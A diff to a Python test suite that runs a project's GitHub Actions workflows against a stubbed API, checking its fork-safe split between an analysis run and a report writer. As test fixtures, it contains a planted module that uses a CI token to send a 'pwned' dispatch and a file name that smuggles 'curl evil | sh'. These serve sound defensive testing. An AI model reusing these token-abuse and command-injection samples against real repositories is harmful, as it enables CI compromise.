@@ -13,6 +13,8 @@ import copy
 import hashlib
 import json
 import os
+import re
+import shutil
 import subprocess
 import sys
 from collections.abc import Iterator
@@ -20,7 +22,14 @@ from pathlib import Path
 from typing import Any
 
 import pytest
-from act_harness import EXAMPLE_ACTION, ActHarness, ActRun, act_binary, rev_parse
+from act_harness import (
+    EXAMPLE_ACTION,
+    ActHarness,
+    ActRun,
+    act_binary,
+    rev_parse,
+    workflow_run_event,
+)
 from github_stub import GitHubStub, iter_requests
 
 from orchestration.github.pr_state import read_state, user_text
@@ -229,6 +238,66 @@ def pr_body(stub: GitHubStub, payload: dict[str, Any]) -> str | None:
     return pr["body"]
 
 
+ANALYSIS = ".github/workflows/synthforge-pr.yml"
+WRITER = ".github/workflows/synthforge-pr-report.yml"
+
+
+def run_pull_request(
+    harness: ActHarness,
+    stub: GitHubStub,
+    corpus_events: Path,
+    head: Path,
+    default: Path,
+    event: dict[str, Any],
+    *,
+    fork: bool = False,
+) -> tuple[ActRun, ActRun, list[dict[str, Any]], list[dict[str, Any]]]:
+    """The analysis (on the pull request's head) then the writer (on the default branch),
+    as GitHub runs them; with the requests the stand-in answered during each.
+
+    The stand-in's contents API serves the head's diagrams at the head commit, as GitHub
+    does (the review reads a diagram's bytes from there, never from an artifact).
+    """
+    tracked = subprocess.run(
+        ["git", "ls-files", "-z", "--", "*.drawio"], cwd=head, check=True, capture_output=True
+    ).stdout.decode()
+    for path in filter(None, tracked.split("\0")):
+        stub.set_file(
+            event["repository"]["full_name"],
+            event["pull_request"]["head"]["sha"],
+            path,
+            (head / path).read_bytes(),
+        )
+    before = len(stub.requests())
+    analysis = harness.run(head, "pull_request", ANALYSIS, event)
+    during_analysis = stub.requests()[before:]
+    before = len(stub.requests())
+    writer_event = workflow_run_event(corpus_events, event, analysis, fork=fork)
+    writer = harness.run(default, "workflow_run", WRITER, writer_event)
+    return analysis, writer, during_analysis, stub.requests()[before:]
+
+
+def calls(requests: list[dict[str, Any]]) -> list[str]:
+    return [r["operation"] for r in requests]
+
+
+#: What the writer sends to GitHub for the report: read, write and re-read the body, list
+#: the comments, then create (first run) or update the sticky comment (docs/workflows.md,
+#: "Cost"); the review's requests follow.
+WRITER_CALLS = ["pulls/get", "pulls/update", "pulls/get", "issues/list-comments"]
+#: Every request the writer may make: the report's, then the review's (read the diagram
+#: at the head commit, the review state in the body, its own sticky comment).
+WRITER_MAY = {*WRITER_CALLS, "issues/create-comment", "issues/update-comment", "repos/get-content"}
+
+
+def writer_calls(written: list[dict[str, Any]]) -> list[str]:
+    """The report's requests (checked exactly), after checking that the rest are the
+    review's kind only."""
+    ops = calls(written)
+    assert set(ops) <= WRITER_MAY, ops
+    return ops[:5]
+
+
 def test_pr_workflow_writes_state_and_one_sticky_comment(
     harness: ActHarness, stub: GitHubStub, corpus_events: Path, corpus_diagrams: Path
 ) -> None:
@@ -240,12 +309,16 @@ def test_pr_workflow_writes_state_and_one_sticky_comment(
     original_body = opened["pull_request"]["body"]
     repo_name, number = stub.seed_pull_request(opened)
     diagram = (corpus_diagrams / AZURE_DIAGRAM).read_text(encoding="utf-8")
+    default = harness.new_repo("default")
     repo = harness.new_repo("pr", extra_files={"docs/architecture.drawio": diagram})
 
-    run = harness.run(
-        repo, "pull_request", ".github/workflows/synthforge-pr.yml", pr_event(opened, repo)
+    analysis, writer, read_only, written = run_pull_request(
+        harness, stub, corpus_events, repo, default, pr_event(opened, repo)
     )
-    assert_ok(run)
+    assert_ok(analysis)
+    assert_ok(writer)
+    assert read_only == [], "the analysis run called GitHub's API"
+    assert writer_calls(written) == [*WRITER_CALLS, "issues/create-comment"]
     body = pr_body(stub, opened)
     assert user_text(body) == original_body
     assert body is not None and body.startswith(original_body)
@@ -254,17 +327,25 @@ def test_pr_workflow_writes_state_and_one_sticky_comment(
     entry = state["diagrams"]["docs/architecture.drawio"]
     assert entry["status"] == "succeeded" and entry["resources"] > 0
     assert state["head_sha"] == opened["pull_request"]["head"]["sha"]
-    output = run.artifact_file(entry["artifact"], "output.json").read_bytes()
+    output = analysis.artifact_file(entry["artifact"], entry["file"]).read_bytes()
     assert entry["output_sha256"] == hashlib.sha256(output).hexdigest()
     comments = stub.comments(repo_name, number)
     assert len(comments) == 1
     assert "docs/architecture.drawio" in comments[0]["body"]
+    saved = re.search(r"Cache saved with key: (forgeflow-results-synthforge-\w+)", analysis.log)
+    assert saved, analysis.explain()
+    first_cache = saved.group(1)
 
     # synchronize: the real payload's base commit is not in this clone, so every diagram
     # of the repository is analysed; the same comment is updated, never a second one.
     synchronize = load_event(corpus_events, "pull_request.synchronize.payload.json")
-    run = harness.run(repo, "pull_request", ".github/workflows/synthforge-pr.yml", synchronize)
-    assert_ok(run)
+    analysis, writer, read_only, written = run_pull_request(
+        harness, stub, corpus_events, repo, default, synchronize
+    )
+    assert_ok(analysis)
+    assert_ok(writer)
+    assert read_only == []
+    assert writer_calls(written) == [*WRITER_CALLS, "issues/update-comment"]
     tracked = subprocess.run(
         ["git", "ls-files", "--", "*.drawio"], cwd=repo, check=True, capture_output=True, text=True
     ).stdout.split()
@@ -272,11 +353,135 @@ def test_pr_workflow_writes_state_and_one_sticky_comment(
     assert user_text(body) == original_body
     assert sorted(read_state(body)["synthforge"]["diagrams"]) == sorted(tracked)
     assert "examples/diagrams/webapp.drawio" in tracked
-    # The first run's result cache (actions/cache) was restored for the same artifact name.
-    assert "Cache restored from key: forgeflow-results-synthforge-1-" in run.log, run.explain()
+    # All of them in one analysis job: the matrix has one group.
+    assert analysis.artifact_names() == ["synthforge-group-1", "synthforge-pr"]
+    # The first run's result cache (actions/cache) was restored, and saved again under a
+    # new name, since it now holds more (the second diagram's results).
+    restored = re.search(
+        r"Cache restored from key: (forgeflow-results-synthforge-\w+)", analysis.log
+    )
+    assert restored, analysis.explain()
+    assert restored.group(1) == first_cache, (restored.group(1), first_cache)
+    assert re.search(r"Cache saved with key: forgeflow-results-synthforge-\w+", analysis.log)
     comments_after = stub.comments(repo_name, number)
     assert [c["id"] for c in comments_after] == [comments[0]["id"]]
     assert "examples/diagrams/webapp.drawio" in comments_after[0]["body"]
+
+
+def test_fork_pull_request_is_reported_by_the_default_branchs_code(
+    harness: ActHarness, stub: GitHubStub, corpus_events: Path, corpus_diagrams: Path
+) -> None:
+    """A pull request from a fork (the real ``pull_request/opened`` payload with
+    ``head.repo.fork: true``) whose head also changes Forgeflow's own code: any process
+    importing its ``orchestration`` with a token at hand sends a ``pwned`` dispatch.
+
+    The analysis runs the head's code with no token and calls no API; the writer, fed
+    the corpus's ``workflow_run`` (completed) payload with ``pull_requests: []`` as GitHub
+    sends it for forks, runs the default branch's code: the stand-in's recorded requests
+    are exactly the documented writes, and no dispatch.
+    """
+    opened = load_event(corpus_events, "pull_request.opened.payload.json")
+    opened["pull_request"]["head"]["repo"]["fork"] = True
+    opened["pull_request"]["head"]["repo"]["full_name"] = "mallory/Hello-World"
+    repo_name, number = stub.seed_pull_request(opened)
+    hostile = (REPO / "orchestration/__init__.py").read_text(encoding="utf-8") + (
+        "\n\nimport json as _j, os as _o, urllib.request as _u\n"
+        "if _o.environ.get('GITHUB_TOKEN'):\n"
+        "    _u.urlopen(_u.Request(\n"
+        "        _o.environ['GITHUB_API_URL'] + '/repos/' + _o.environ['GITHUB_REPOSITORY']\n"
+        "        + '/dispatches', data=_j.dumps({'event_type': 'pwned'}).encode(),\n"
+        "        headers={'Authorization': 'token ' + _o.environ['GITHUB_TOKEN'],\n"
+        "                 'Content-Type': 'application/json'}, method='POST'))\n"
+    )
+    default = harness.new_repo("default")
+    head = harness.new_repo(
+        "fork-head",
+        extra_files={
+            "docs/architecture.drawio": (corpus_diagrams / AZURE_DIAGRAM).read_text("utf-8"),
+            "orchestration/__init__.py": hostile,
+        },
+    )
+    analysis, writer, read_only, written = run_pull_request(
+        harness, stub, corpus_events, head, default, pr_event(opened, head), fork=True
+    )
+    assert_ok(analysis)
+    assert_ok(writer)
+    assert read_only == [], "the analysis run called GitHub's API"
+    assert writer_calls(written) == [*WRITER_CALLS, "issues/create-comment"]
+    assert stub.dispatches() == [], "the writer ran the pull request's code"
+    # The pull request written to came from the artifact (the event names none for a
+    # fork) and was checked against the event's head commit.
+    assert written[0]["path"].endswith(f"/pulls/{number}")
+    body = pr_body(stub, opened)
+    assert user_text(body) == opened["pull_request"]["body"]
+    state = read_state(body)["synthforge"]
+    assert state["diagrams"]["docs/architecture.drawio"]["status"] == "succeeded"
+    (comment,) = stub.comments(repo_name, number)
+    assert comment["body"].startswith("<!-- forgeflow:sticky key=synthforge-report -->")
+    assert "docs/architecture.drawio" in comment["body"]
+    assert comment["user"]["login"] == "github-actions[bot]"
+
+
+def test_a_failed_plan_gives_one_annotation_and_no_report(
+    harness: ActHarness, stub: GitHubStub, corpus_events: Path
+) -> None:
+    """A pull request whose base commit is not a commit id (``pull_request/opened``,
+    ``events/SOURCES.md``, with a hostile ``base.sha``): the plan job fails with one error
+    annotation; nothing runs after it and nothing crashes; the writer finds nothing to
+    report and writes nothing."""
+    payload = load_event(corpus_events, "pull_request.opened.payload.json")
+    stub.seed_pull_request(payload)
+    default = harness.new_repo("default")
+    repo = harness.new_repo(
+        "pr-bad-base",
+        extra_files={"docs/a.drawio": (REPO / "examples/diagrams/webapp.drawio").read_text()},
+    )
+    event = pr_event(payload, repo)
+    event["pull_request"]["base"]["sha"] = HOSTILE
+    analysis, writer, read_only, written = run_pull_request(
+        harness, stub, corpus_events, repo, default, event
+    )
+    assert analysis.returncode != 0, analysis.explain()
+    errors = [line for line in analysis.log.splitlines() if "::error" in line]
+    assert len(errors) == 1, errors
+    assert "is not a commit id" in errors[0]
+    assert "Traceback" not in analysis.log + writer.log
+    assert analysis.artifact_names() == []
+    assert_ok(writer)
+    assert "nothing to report" in writer.log
+    assert read_only == written == []
+
+
+def test_a_diagram_that_fails_is_annotated_on_its_file(
+    harness: ActHarness, stub: GitHubStub, corpus_events: Path
+) -> None:
+    """A pull request adding a good diagram and a broken one (not XML): one
+    ``::error file=…`` annotation on the broken diagram, the good one still analysed, and
+    the report says which failed."""
+    payload = load_event(corpus_events, "pull_request.opened.payload.json")
+    repo_name, number = stub.seed_pull_request(payload)
+    default = harness.new_repo("default")
+    repo = harness.new_repo(
+        "pr-broken",
+        extra_files={
+            "docs/good.drawio": (REPO / "examples/diagrams/webapp.drawio").read_text(),
+            "docs/broken.drawio": "<mxfile><diagram>not a graph",
+        },
+    )
+    analysis, writer, read_only, written = run_pull_request(
+        harness, stub, corpus_events, repo, default, pr_event(payload, repo)
+    )
+    assert analysis.returncode != 0, analysis.explain()
+    errors = [line for line in analysis.log.splitlines() if "::error" in line]
+    assert len(errors) == 1, errors
+    assert "::error file=docs/broken.drawio," in errors[0]
+    assert "Traceback" not in analysis.log + writer.log
+    assert writer.returncode != 0, writer.explain()  # the report says an analysis failed
+    state = read_state(pr_body(stub, payload))["synthforge"]["diagrams"]
+    assert state["docs/good.drawio"]["status"] == "succeeded"
+    assert state["docs/broken.drawio"]["status"] != "succeeded"
+    (comment,) = stub.comments(repo_name, number)
+    assert "1 failed" in comment["body"]
 
 
 def test_pr_workflow_on_a_pull_request_without_body(
@@ -288,16 +493,18 @@ def test_pr_workflow_on_a_pull_request_without_body(
     payload = load_event(corpus_events, "pull_request.opened.with-null-body.json")
     assert payload["pull_request"]["body"] is None
     stub.seed_pull_request(payload)
+    default = harness.new_repo("default")
     repo = harness.new_repo(
         "pr-null",
         extra_files={
             "diagrams/copy.drawio": (REPO / "examples/diagrams/webapp.drawio").read_text()
         },
     )
-    run = harness.run(
-        repo, "pull_request", ".github/workflows/synthforge-pr.yml", pr_event(payload, repo)
+    analysis, writer, _, _ = run_pull_request(
+        harness, stub, corpus_events, repo, default, pr_event(payload, repo)
     )
-    assert_ok(run)
+    assert_ok(analysis)
+    assert_ok(writer)
     body = pr_body(stub, payload)
     assert user_text(body) == ""
     assert list(read_state(body)["synthforge"]["diagrams"]) == ["diagrams/copy.drawio"]
@@ -324,17 +531,22 @@ def test_hostile_title_branch_body_and_file_name_change_nothing_but_text(
     )
     stub.seed_pull_request(payload, body=body, title=title)
     name = f'docs/"; curl evil | sh; #$(touch {canary.name}).drawio'
+    default = harness.new_repo("default")
     repo = harness.new_repo(
         "pr-hostile", extra_files={name: (REPO / "examples/diagrams/webapp.drawio").read_text()}
     )
     event = pr_event(payload, repo, title=title, body=body, head__ref=branch)
-    run = harness.run(repo, "pull_request", ".github/workflows/synthforge-pr.yml", event)
-    assert_ok(run)
+    analysis, writer, _, _ = run_pull_request(harness, stub, corpus_events, repo, default, event)
+    assert_ok(analysis)
+    assert_ok(writer)
     after = pr_body(stub, payload)
     assert user_text(after) == body
     assert after is not None and after.startswith(body)
     state = read_state(after)
-    assert list(state) == ["synthforge"]
+    # Only Forgeflow's own keys: the report's, and the review's (with nothing to review);
+    # the markers planted in the body added none.
+    assert set(state) <= {"synthforge", "synthforge-review"}, list(state)
+    assert not (state.get("synthforge-review") or {}).get("diagrams")
     assert list(state["synthforge"]["diagrams"]) == [name]
     assert state["synthforge"]["diagrams"][name]["status"] == "succeeded"
     comments = stub.comments(payload["repository"]["full_name"], payload["number"])
@@ -343,7 +555,76 @@ def test_hostile_title_branch_body_and_file_name_change_nothing_but_text(
     assert not list(tmp_path.rglob(canary.name)), "a hostile string was run by a shell"
 
 
-# --------------------------------------------------------------------------- README example
+# --------------------------------------------------------------------------- other repositories
+
+
+def git_repo(folder: Path, remote: str) -> Path:
+    """Commit everything in ``folder`` as a new repository whose ``origin`` is ``remote``."""
+    git = ["git", "-c", "user.name=t", "-c", "user.email=t@example.invalid"]
+    for cmd in (
+        ["init", "-q", "-b", "main"],
+        ["add", "-A"],
+        ["commit", "-q", "-m", "c"],
+        ["remote", "add", "origin", f"https://github.com/{remote}.git"],
+    ):
+        subprocess.run([*git, *cmd], cwd=folder, check=True)
+    return folder
+
+
+def publish_forgeflow(harness: ActHarness) -> Path:
+    """A snapshot of this repository published as ``OWNER/forgeflow@SHA`` (the pinned form)."""
+    return harness.new_repo("forgeflow", remote=EXAMPLE_ACTION[0], ref=EXAMPLE_ACTION[1])
+
+
+def test_another_repository_with_its_own_agents_package_calls_the_reusable_workflows(
+    harness: ActHarness, tmp_path: Path, corpus_diagrams: Path
+) -> None:
+    """A consumer repository (``tests/act/consumer``: its own ``agents`` and
+    ``orchestration`` packages, which leave a canary when imported) calls
+    ``pipeline-job.yml``, ``agent-job.yml`` and ``fan-out.yml`` by their remote form
+    (``tests/act/workflows/consumer.yml``) with their defaults: the pipeline file comes
+    from Forgeflow's own copy, the diagram (``diagrams/SOURCES.md`` section 1) and the
+    text from the consumer's checkout.
+    """
+    publish_forgeflow(harness)
+    consumer = tmp_path / "consumer"
+    shutil.copytree(REPO / "tests/act/consumer", consumer)
+    (consumer / ".github/workflows").mkdir(parents=True)
+    shutil.copy(REPO / "tests/act/workflows/consumer.yml", consumer / ".github/workflows")
+    (consumer / "docs").mkdir()
+    (consumer / "docs/architecture.drawio").write_text(
+        (corpus_diagrams / AZURE_DIAGRAM).read_text(encoding="utf-8")
+    )
+    git_repo(consumer, "octo-org/consumer")
+    # The consumer's packages do shadow Forgeflow for a Python started in its workspace.
+    env = {k: v for k, v in os.environ.items() if not k.startswith("PYTHON")}
+    shadowed = subprocess.run(
+        [sys.executable, "-c", "import agents"], cwd=consumer, env=env, capture_output=True
+    )
+    assert b"the consumer's own agents package was imported" in shadowed.stderr
+    (consumer / "canary-agents").unlink()
+
+    harness.repository = "octo-org/consumer"
+    run = harness.run(consumer, "workflow_dispatch", ".github/workflows/consumer.yml", {})
+    assert_ok(run)
+    assert not sorted(tmp_path.rglob("canary-*")), "a step imported the consumer's packages"
+    assert set(run.artifact_names()) == {
+        "consumer-pipeline",
+        "consumer-vision",
+        "fan-out-word_count",
+        "fan-out-uppercase",
+        "fan-out-combined",
+    }
+    output = run.artifact_json("consumer-pipeline", "output.json")
+    assert (output["agent"], output["status"]) == ("combine", "succeeded")
+    assert output["data"]["architecture"]["resources"], "the pipeline found no resources"
+    vision = run.artifact_json("consumer-vision", "vision.json")
+    assert (vision["agent"], vision["status"]) == ("vision", "succeeded")
+    assert vision["data"]["icons"], "vision found no icons"
+    combined = run.artifact_json("fan-out-combined", "combined.json")["data"]
+    assert combined["results"]["uppercase"]["text"] == "A CONSUMER SAYS HELLO"
+    assert combined["results"]["word_count"]["words"] == 4
+    assert combined["failures"] == []
 
 
 def test_readme_example_runs_from_another_repository(
@@ -353,7 +634,7 @@ def test_readme_example_runs_from_another_repository(
     ``OWNER/forgeflow@SHA`` mapped to this repository; the diagram is
     ``diagrams/SOURCES.md`` section 1.
     """
-    forgeflow = harness.new_repo("forgeflow")
+    publish_forgeflow(harness)
     consumer = tmp_path / "consumer"
     (consumer / ".github/workflows").mkdir(parents=True)
     (consumer / "docs").mkdir()
@@ -363,14 +644,7 @@ def test_readme_example_runs_from_another_repository(
     (consumer / "docs/architecture.drawio").write_text(
         (corpus_diagrams / AZURE_DIAGRAM).read_text(encoding="utf-8")
     )
-    git = ["git", "-c", "user.name=t", "-c", "user.email=t@example.invalid"]
-    for cmd in (
-        ["init", "-q", "-b", "main"],
-        ["add", "-A"],
-        ["commit", "-q", "-m", "c"],
-        ["remote", "add", "origin", "https://github.com/octo-org/consumer.git"],
-    ):
-        subprocess.run([*git, *cmd], cwd=consumer, check=True)
+    git_repo(consumer, "octo-org/consumer")
     assert (
         f"{EXAMPLE_ACTION[0]}@{EXAMPLE_ACTION[1]}"
         in (consumer / ".github/workflows/forgeflow.yml").read_text()
@@ -381,7 +655,6 @@ def test_readme_example_runs_from_another_repository(
         "workflow_dispatch",
         ".github/workflows/forgeflow.yml",
         {"inputs": {}},
-        action_repo=forgeflow,
     )
     assert_ok(run)
     assert run.artifact_names() == ["forgeflow-analysis"]
